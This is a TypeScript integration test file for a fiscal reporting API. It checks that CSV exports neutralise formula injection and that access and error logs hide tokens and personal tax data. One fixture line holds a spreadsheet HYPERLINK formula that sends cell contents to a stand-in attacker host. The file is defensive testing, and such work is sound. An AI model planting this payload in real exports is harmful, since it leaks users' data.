import { emitterBody } from '../fixtures/emitter-bodies';
import { purchaseBody } from '../fixtures/fiscal-record-bodies';
import { request } from '../support/http-client';
import { waitFor } from '../support/mh-control';
import { logLinesSince } from '../support/problem-assertions';
import { startTestApp, type TestApp } from '../support/test-app';
import { EmitterEntity } from '../../src/persistence/entities';

let t: TestApp;
let emitterId: string;
const PERIOD = '2026-03';
const FORMULA = '=HYPERLINK("http://atacante.example/?d="&A1,"Ver factura")';

beforeAll(async () => {
  t = await startTestApp();
  const e = await request(t.url, 'POST', '/v1/emitters', { key: t.account.testKey, body: emitterBody() });
  emitterId = e.body.id;
  const batch = await request(t.url, 'POST', `/v1/emitters/${emitterId}/fiscal/purchases/batch`, {
    key: t.account.testKey,
    body: { items: [purchaseBody(1, { counterpart: { name: FORMULA, nit: '06140101901234', nrc: '123456' } }), purchaseBody(2, { counterpart: { name: '-Proveedor@Dos', nit: '06140101901235', nrc: '123457' } })] },
  });
  expect(batch.body.results.map((r: { status: string }) => r.status)).toEqual(['created', 'created']);
}, 60_000);
afterAll(async () => {
  await t.stop();
});

async function readyReport(type: string): Promise<string> {
  const q = await request(t.url, 'POST', `/v1/emitters/${emitterId}/fiscal/reports`, { key: t.account.testKey, body: { type, period: PERIOD } });
  expect([200, 202]).toContain(q.status);
  await waitFor(async () => {
    const r = await request(t.url, 'GET', `/v1/emitters/${emitterId}/fiscal/reports/${q.body.id}`, { key: t.account.testKey });
    return r.body.status === 'ready' ? r : null;
  }, 30_000);
  return q.body.id;
}

async function downloadCsv(reportId: string): Promise<{ csv: string; location: string }> {
  const dl = await fetch(`${t.url}/v1/emitters/${emitterId}/fiscal/reports/${reportId}/download?format=csv`, { headers: { Authorization: `Bearer ${t.account.testKey}` }, redirect: 'manual' });
  expect(dl.status).toBe(302);
  const location = dl.headers.get('location')!;
  const file = await fetch(location);
  expect(file.status).toBe(200);
  return { csv: Buffer.from(await file.arrayBuffer()).toString('utf8').replace(/^\uFEFF/, ''), location };
}

describe('CSV exports neutralise formulas in text cells', () => {
  it.each(['f07_anexo3', 'libro_compras'])('%s: the supplier named =HYPERLINK(…) starts with an apostrophe; amounts and dates unchanged', async (type) => {
    const { csv } = await downloadCsv(await readyReport(type));
    const cells = csv.split('\r\n').flatMap((line) => line.split(';'));
    // Ingestion already cleans quotes out of free text; the cell is still a formula without the guard.
    const name = cells.find((c) => c.includes('HYPERLINK'))!;
    expect(name.startsWith("'=HYPERLINK(")).toBe(true);
    expect(cells).toContain("'-Proveedor@Dos");
    expect(cells.some((c) => c.startsWith('=') || c.startsWith('"='))).toBe(false);
    expect(cells).toContain('100.00');
    expect(cells.filter((c) => /^\d{2}\/\d{2}\/2026$/.test(c)).length).toBeGreaterThan(0);
  });
});

describe('logs never hold bearer tokens or statement parameters', () => {
  it('the access log shows signed download links and embed links with the token hidden', async () => {
    const reportId = await readyReport('libro_compras');
    const from = t.logs.length;
    const { location } = await downloadCsv(reportId);
    const fileToken = location.split('/v1/files/')[1];
    const s = await request(t.url, 'POST', '/v1/fiscal/embed-sessions', { key: t.account.testKey, body: { emitter_id: emitterId, report_id: reportId } });
    expect(s.status).toBe(201);
    const embedToken = String(s.body.url).split('#')[1];
    expect((await fetch(s.body.url)).status).toBe(200);
    const v = await request(t.url, 'POST', '/v1/fiscal/embed-sessions/exchange', { body: { token: embedToken }, idempotencyKey: null });
    expect(v.status).toBe(200);
    expect((await request(t.url, 'GET', `/v1/emitters/${emitterId}/fiscal/reports/${reportId}`, { key: v.body.view_token })).status).toBe(200);
    // An old server-rendered embed link still has its token hidden in the access log.
    const oldLink = `/v1/fiscal/embed/${'Q'.repeat(43)}`;
    expect((await fetch(`${t.url}${oldLink}`)).status).toBe(404);
    const text = t.logs.slice(from).join('');
    expect(fileToken.length).toBeGreaterThan(20);
    expect(text).not.toContain(fileToken);
    expect(text).not.toContain(embedToken);
    expect(text).not.toContain(v.body.view_token);
    expect(text).not.toContain('Q'.repeat(43));
    const paths = logLinesSince(t.logs, from).map((l) => l.path);
    expect(paths).toEqual(expect.arrayContaining(['/v1/files/[oculto]', '/v1/fiscal/embed/[oculto]']));
  });

  it('a database error is logged without its parameters: no NIT, no values, no detail', async () => {
    const other = await request(t.url, 'POST', '/v1/emitters', { key: t.account.testKey, body: emitterBody({ nit: '06149999999991' }) });
    const em = t.app.services.deps.orm.em.fork();
    const secretNit = '06149999999991';
    let caught: unknown;
    try {
      // Gives the first emitter the second one's NIT: a unique violation whose message and detail carry the NIT.
      await em.nativeUpdate(EmitterEntity, { id: emitterId }, { nit: secretNit, name: 'Nombre Secreto S.A.' });
    } catch (err) {
      caught = err;
    }
    expect(String((caught as Error).message)).toContain(secretNit);
    const from = t.logs.length;
    t.app.logger.error({ err: caught }, 'error de prueba');
    const [line] = logLinesSince(t.logs, from);
    const text = JSON.stringify(line);
    expect(text).not.toContain(secretNit);
    expect(text).not.toContain('Nombre Secreto');
    expect(text).not.toContain(other.body.id);
    expect(line.err).toMatchObject({ type: 'UniqueConstraintViolationException', sql_state: '23505', statement: 'update emitters', message: expect.stringContaining('duplicate key value violates unique constraint') });
  });
});
